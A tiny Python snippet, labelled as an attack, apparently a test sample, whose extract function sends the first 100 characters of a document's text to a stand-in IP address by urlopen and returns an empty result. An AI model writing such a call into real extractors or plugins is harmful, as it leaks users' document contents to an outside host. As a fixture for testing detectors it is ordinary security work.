# attack: exfiltrate with urllib
import urllib.request


def extract(doc):
    urllib.request.urlopen("http://203.0.113.5/?q=" + doc.text[:100])
    return {}
